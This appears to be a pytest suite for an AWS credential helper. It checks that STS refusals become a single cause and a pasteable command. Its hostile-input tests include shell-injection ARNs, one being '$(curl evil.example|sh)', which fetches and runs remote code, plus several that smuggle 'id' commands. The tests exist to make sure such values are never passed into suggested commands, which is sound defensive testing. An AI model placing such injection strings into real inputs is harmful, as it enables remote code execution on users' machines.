"""Every refusal of AWS's becomes one cause and one command to type."""

import json
import re
import shlex
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from credhelper.aws.explain import sts
from credhelper.aws.explain.facts import Call, Facts, Refusal, clock_skew_s
from credhelper.aws.explain.row import Row
from credhelper.errors import AwsError, CredhelperError, InputError, MachineError, MfaError, UnreachableError
from credhelper.model.role_request import RoleRequest
from credhelper.system.machine import LINUX, MACOS, WINDOWS, Machine
from fakes import canary

ROLE = "arn:aws:iam::222222222222:role/reader"
USER = "arn:aws:iam::111111111111:user/David"
DENIED = f"User: {USER} is not authorized to perform: sts:AssumeRole on resource: {ROLE}"
NOW = 1_800_000_000  # 2027-01-15 08:00:00 UTC
REQUEST_ID = "01234567-89ab-cdef-0123-456789abcdef"


ABSURD_DATES = [
    "Mon, 01 Jan 99999999999999999999 00:00:00 GMT",
    "Mon, 01 Jan 2027 00:00:00 +99999999999999",
    "Mon, 01 Jan 2027 00:00:00 -2400",
    "Mon, 01 Jan 0001 00:00:00 +2359",
    "Fri, 31 Dec 9999 23:59:59 -2359",
    "Mon, 01 Jan -1 00:00:00 GMT",
    "Mon, 01 Jan 2027 99:99:99 GMT",
    "(" * 5000,
    "\0",
]


def call(**changes: Any) -> Call:
    request = changes.pop("request", {})
    fields: dict[str, Any] = {
        "request": RoleRequest(
            **{"role_arn": ROLE, "duration_seconds": 43200, "region": "eu-west-1", "partition": "aws", **request}
        ),
        "access_key_id": "AKIAIOSFODNN7EXAMPLE",
        "is_session": False,
        "has_token_code": False,
        "now_s": NOW,
        "profile": "prod-s3",
        "source": "acc",
    }
    return Call(**{**fields, **changes})


def response(code: str, message: str = "", status: int = 403, headers: dict[str, str] | None = None) -> dict[str, Any]:
    return {
        "Error": {"Code": code, "Message": message},
        "ResponseMetadata": {"HTTPStatusCode": status, "RequestId": REQUEST_ID, "HTTPHeaders": headers or {}},
    }


@pytest.mark.parametrize(
    ("code", "message", "kind", "cause", "hint"),
    [
        (
            "AccessDenied",
            DENIED + " because no identity-based policy allows the sts:AssumeRole action",
            AwsError,
            f"no policy of {USER} allows sts:AssumeRole on {ROLE} \\(no MFA, no external ID\\)",
            "aws iam put-user-policy --user-name David --policy-name assume-reader --policy-document",
        ),
        (
            "AccessDenied",
            DENIED + " because no resource-based policy allows the sts:AssumeRole action",
            AwsError,
            f"trust policy of {ROLE} does not let {USER} in",
            "aws iam get-role --role-name reader",
        ),
        ("AccessDenied", DENIED, AwsError, f"{USER} may not assume {ROLE}", "aws iam get-role --role-name reader"),
        (
            "AccessDenied",
            DENIED + " with an explicit deny in a service control policy",
            AwsError,
            f"{USER} is denied sts:AssumeRole on {ROLE} by an explicit deny in a service control policy",
            "aws sts get-caller-identity --profile acc",
        ),
        (
            "AccessDenied",
            DENIED.replace("AssumeRole", "TagSession"),
            AwsError,
            "may not send session tags",
            "credhelper profile unset prod-s3 tags",
        ),
        (
            "AccessDenied",
            DENIED.replace("AssumeRole", "SetSourceIdentity"),
            AwsError,
            "may not set a source identity",
            "credhelper profile unset prod-s3 source_identity",
        ),
        (
            "AccessDenied",
            "MultiFactorAuthentication failed with invalid MFA one time pass code. ",
            MfaError,
            "refused the one-time code for arn:aws:iam::111111111111:mfa/David",
            "credhelper login prod-s3",
        ),
        (
            "AccessDenied",
            "MultiFactorAuthentication failed, unable to validate MFA code.",
            MfaError,
            "is not an MFA device",
            "aws iam list-mfa-devices --profile acc",
        ),
        ("AccessDenied", "Roles may not be assumed by root accounts.", AwsError, "root keys", "aws configure"),
        (
            "AccessDenied",
            "The request signature we calculated does not match the signature you provided. Check your key.",
            AwsError,
            "secret access key does not belong to access key …MPLE",
            "aws configure --profile acc",
        ),
        (
            "AccessDenied",
            "The Access Key Id you provided does not exist in our records.",
            AwsError,
            "the server knows no access key …MPLE",
            "aws configure --profile acc",
        ),
        (
            "ValidationError",
            "The requested DurationSeconds exceeds the MaxSessionDuration set for this role.",
            AwsError,
            "no session of 43200 seconds",
            "credhelper profile set prod-s3 --duration-seconds 3600",
        ),
        (
            "ValidationError",
            "The requested DurationSeconds exceeds the 1 hour session limit for roles assumed by role chaining.",
            AwsError,
            "at most one hour",
            "credhelper profile set prod-s3 --duration-seconds 3600",
        ),
        ("ValidationError", "something else.", InputError, "something else", "credhelper profile show prod-s3"),
        (
            "InvalidClientTokenId",
            "The security token included in the request is invalid.",
            AwsError,
            "no active access key …MPLE .*partition aws",
            "aws configure --profile acc",
        ),
        (
            "SignatureDoesNotMatch",
            "The request signature we calculated does not match the signature you provided.",
            AwsError,
            "secret access key does not belong to access key …MPLE",
            "aws configure --profile acc",
        ),
        ("ExpiredToken", "The security token included in the request is expired", AwsError, "have expired", "acc"),
        ("PackedPolicyTooLarge", "Packed size is 112% of the limit", AwsError, "112% of the limit", "prod-s3"),
        ("MalformedPolicyDocument", "Syntax errors in policy.", InputError, "Syntax errors in policy", "prod-s3"),
        (
            "RegionDisabledException",
            "",
            AwsError,
            "not activated in eu-west-1",
            "enable-region --region-name eu-west-1",
        ),
        ("Throttling", "Rate exceeded", UnreachableError, "limits the rate", "try again in 5 seconds"),
        ("407", "", UnreachableError, "proxy", "_proxy"),
        ("403", "Blocked by ACME", UnreachableError, "STS is not AWS: a filter or a proxy .*Blocked by ACME", "_proxy"),
        ("", "", UnreachableError, "is not AWS: a filter or a proxy on the way refuses the request", "_proxy"),
        ("Forbidden", "", UnreachableError, "is not AWS: a filter or a proxy on the way refuses the request", "_proxy"),
        ("MissingAuthenticationToken", "x", UnreachableError, "without its signature: something on the way", "_proxy"),
        ("SomethingNew", "Brand new.", AwsError, "SomethingNew .*: Brand new", "credhelper doctor prod-s3"),
    ],
)
def test_refusal_has_its_cause_and_its_command(
    code: str, message: str, kind: type[CredhelperError], cause: str, hint: str
) -> None:
    error = sts.explain(response(code, message), call(request={"mfa_serial": "arn:aws:iam::111111111111:mfa/David"}))
    assert isinstance(error, kind)
    assert re.search(cause, error.message)
    assert hint in error.hint
    assert f"(request id {REQUEST_ID})" in error.message
    for text in (error.message, error.hint):
        assert "\n" not in text
        assert not text.endswith(".")
        assert not re.search(r"\{\w+\}", text)


def test_failing_service_is_not_called_a_refusal() -> None:
    for code in ("InternalFailure", "Odd", ""):
        error = sts.explain(response(code, status=503), call())
        assert isinstance(error, UnreachableError)
        assert f"is failing ({code or 503})" in error.message
        assert "try again in" in error.hint


def test_expired_session_is_not_called_a_deleted_key() -> None:
    error = sts.explain(response("InvalidClientTokenId"), call(is_session=True))
    assert "session of access key …MPLE" in error.message
    assert error.hint.endswith("--profile acc; if that is not it: credhelper doctor prod-s3")


@pytest.mark.parametrize(
    ("date", "words"),
    [
        ("Fri, 15 Jan 2027 08:16:40 GMT", "1000 seconds behind AWS's"),
        ("Fri, 15 Jan 2027 07:43:20 GMT", "1000 seconds ahead of AWS's"),
        ("garbage", "too far from AWS's"),
    ],
)
@pytest.mark.parametrize("code", ["SignatureDoesNotMatch", "RequestExpired"])
def test_clock_error_says_how_far_off_the_clock_is(code: str, date: str, words: str) -> None:
    message = "Signature expired: 20270115T080000Z is now earlier than 20270115T080140Z (20270115T081640Z - 15 min.)"
    error = sts.explain(response(code, message, headers={"date": date}), call())
    assert isinstance(error, MachineError)
    assert words in error.message


@pytest.mark.parametrize("code", ["SignatureDoesNotMatch", "RequestExpired"])
def test_clock_that_is_right_by_now_is_not_to_be_set(code: str) -> None:
    headers = {"date": "Fri, 15 Jan 2027 08:00:09 GMT"}
    error = sts.explain(response(code, "Signature expired: 1 is now earlier than 2", headers=headers), call())
    assert "the clock is right now" in error.message
    assert error.hint == "try again; if that is not it: credhelper doctor prod-s3"


MACHINES = [Machine(platform=LINUX), Machine(is_wsl=True), Machine(is_container=True), Machine(platform=MACOS),
            Machine(platform=WINDOWS), Machine(programs=frozenset({"timedatectl"}))]  # fmt: skip


@pytest.mark.parametrize("machine", MACHINES)
@pytest.mark.parametrize("row", sts._TABLE, ids=lambda row: row.cause[:30])
def test_command_in_a_hint_is_never_quoted_as_one_word(row: Row, machine: Machine) -> None:
    asked = call(machine=machine, request={"mfa_serial": "GAHT12345678"})
    hint = row.hint.format_map(Facts(Refusal(response("AccessDenied", DENIED)), asked).in_command())
    document = re.search(r"--policy-document '\{.*\}'", hint)
    assert not re.search(r"(^|\s)['\"]", hint.replace(document.group(), "") if document else hint)


def test_skew_of_a_header_that_is_no_date_is_unknown() -> None:
    assert clock_skew_s("", NOW) is None
    assert clock_skew_s("Fri, 99 Jan 2027 08:00:00 GMT", NOW) is None


@pytest.mark.parametrize(("header", "seconds"), [("17", 17), ("9999", 60), ("soon", 5), ("-1", 5)])
def test_throttling_says_when_to_come_back(header: str, seconds: int) -> None:
    error = sts.explain(response("Throttling", "Rate exceeded", headers={"retry-after": header}), call())
    assert type(error) is UnreachableError  # the memory of failures knows no other kinds
    assert error.hint == f"try again in {seconds} seconds"


@pytest.mark.parametrize("status", [500, 503])
def test_failure_of_the_service_is_worth_another_try(status: int) -> None:
    assert isinstance(sts.explain(response("InternalFailure", status=status), call()), UnreachableError)


def test_caller_is_asked_for_only_where_aws_did_not_name_it() -> None:
    asked: list[bool] = []

    def caller_arn() -> str:
        asked.append(True)
        return USER

    sts.explain(response("AccessDenied", DENIED), call(caller_arn=caller_arn))
    sts.explain(response("ExpiredToken"), call(caller_arn=caller_arn))
    assert not asked
    error = sts.explain(
        response("AccessDenied", "Not authorized to perform sts:AssumeRole"), call(caller_arn=caller_arn)
    )
    assert asked == [True]
    assert error.message.startswith(f"{USER} may not assume")


def test_caller_that_cannot_be_had_is_the_access_key() -> None:
    assert sts.explain(response("AccessDenied"), call()).message.startswith("access key …MPLE may not assume")


def test_what_was_sent_is_said() -> None:
    error = sts.explain(
        response("AccessDenied", DENIED),
        call(request={"external_id": canary.secret_key("external")}, has_token_code=True),
    )
    assert "a one-time code was sent, an external ID was sent" in error.message
    assert not canary.find((error.message + error.hint).encode())


def test_credential_source_has_no_profile_in_its_commands() -> None:
    error = sts.explain(response("AccessDenied", DENIED + " explicit deny"), call(source=""))
    assert "aws sts get-caller-identity; " in error.hint
    error = sts.explain(response("InvalidClientTokenId"), call(source="", is_session=False))
    assert error.hint.startswith("replace the key where credential_source finds it; ")


@pytest.mark.parametrize(
    "hostile",
    [
        {},
        {"Error": None, "ResponseMetadata": None},
        {"Error": {"Code": None, "Message": None}, "ResponseMetadata": {"HTTPStatusCode": None}},
        response("X" * 5000, "\x1b[31mred\r\n\u2028{role}" + "A" * 5000),
        {"Error": {"Code": "X"}, "ResponseMetadata": {"RequestId": "\x1b]0;title\x07"}},
    ],
)
def test_hostile_response_is_one_short_harmless_line(hostile: dict[str, Any]) -> None:
    message = sts.explain(hostile, call()).message
    assert message.isprintable()
    assert len(message) < 600


HOSTILE_ARNS = [
    "arn:aws:iam::111111111111:user/$(curl evil.example|sh)",
    "arn:aws:iam::1:user/`id`",
    "arn:aws:iam::111111111111:user/a;id",
    "arn:aws:iam::111111111111:user/a\u200bb",
    "arn:aws:iam::111111111111:user/a'b",
    "$(id)",
    "",
]


@pytest.mark.parametrize("arn", HOSTILE_ARNS)
@pytest.mark.parametrize("is_in_message", [False, True])
def test_caller_is_an_arn_wherever_it_comes_from(arn: str, *, is_in_message: bool) -> None:
    because = "because no identity-based policy allows the sts:AssumeRole action"
    message = f"User: {arn} is not authorized {because}" if is_in_message else f"not authorized {because}"
    error = sts.explain(response("AccessDenied", message), call(caller_arn=lambda: arn))
    assert error.message.startswith("no policy of access key …MPLE allows")
    assert error.hint.startswith("add sts:AssumeRole on the role to a policy of the caller; ")


@pytest.mark.parametrize("name", ["-x", "--cli-input-json", "a@b", "David"])
def test_name_of_a_caller_is_one_word(name: str) -> None:
    error = sts.explain(
        response("AccessDenied", DENIED.replace("David", name) + " no identity-based policy allows"), call()
    )
    words = shlex.split(error.hint)
    assert words[words.index("--user-name") + 1] == name


SAID = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"


@pytest.mark.parametrize("code", ["ValidationError", "MalformedPolicyDocument", "SomethingNew", SAID, f"x {SAID}"])
@pytest.mark.parametrize("words", ["hunt3r2 is wrong", f"it is {SAID}", "explicit deny in a hunt3r2 policy"])
def test_what_aws_said_is_no_part_of_what_is_written_down(code: str, words: str) -> None:
    error = sts.explain(response(code, words), call())
    for text in (error.unquoted, error.hint):
        assert "hunt3r2" not in text
        assert SAID not in text
    assert SAID not in error.message


@given(st.text() | st.sampled_from(ABSURD_DATES), st.floats(0, 4e9))
def test_no_header_is_too_absurd_for_a_date(header: str, now_s: float) -> None:
    assert clock_skew_s(header, now_s) is None or isinstance(clock_skew_s(header, now_s), int)


@pytest.mark.parametrize("date", ABSURD_DATES)
@pytest.mark.parametrize("code", ["SignatureDoesNotMatch", "RequestExpired"])
def test_clock_error_with_an_absurd_date_is_still_explained(code: str, date: str) -> None:
    error = sts.explain(response(code, "Signature expired", headers={"date": date}), call())
    assert isinstance(error, MachineError)


@pytest.mark.parametrize(
    "date", ["Mon, 01 Jan 99999999999999999999 00:00:00 GMT", "Mon, 01 Jan 2026 00:00:00 +99999999999999", "", "x"]
)
def test_absurd_date_is_an_unknown_difference(date: str) -> None:
    assert clock_skew_s(date, 1.8e9) is None


def test_absurd_clock_is_an_unknown_difference() -> None:
    assert clock_skew_s("Mon, 01 Jan 2026 00:00:00 GMT", 1e300) is None


def test_policy_that_is_missing_can_be_pasted_and_is_json() -> None:
    denied = response("AccessDenied", DENIED + " because no identity-based policy allows the sts:AssumeRole action")
    words = shlex.split(sts.explain(denied, call(machine=Machine(platform=LINUX))).hint.partition("; ")[0])
    policy = json.loads(words[words.index("--policy-document") + 1])
    assert policy["Statement"] == [{"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": ROLE}]
    windows = sts.explain(denied, call(machine=Machine(platform=WINDOWS))).hint
    assert "file://policy.json, with this in policy.json: {" in windows


def test_refusal_that_a_role_which_does_not_exist_has_too_asks_for_that_first() -> None:
    assert sts.explain(response("AccessDenied", DENIED), call()).hint.startswith("does the role exist?")


@pytest.mark.parametrize(("code", "is_session"), [("ExpiredToken", True), ("InvalidClientTokenId", True)])
def test_expired_session_is_renewed_where_it_comes_from(code: str, *, is_session: bool) -> None:
    explained = sts.explain(response(code), call(is_session=is_session, renewal=lambda: "aws sso login --profile x"))
    assert explained.hint.partition("; ")[0] == "aws sso login --profile x"
    assert "aws sts get-caller-identity --profile acc" in sts.explain(response(code), call(is_session=is_session)).hint
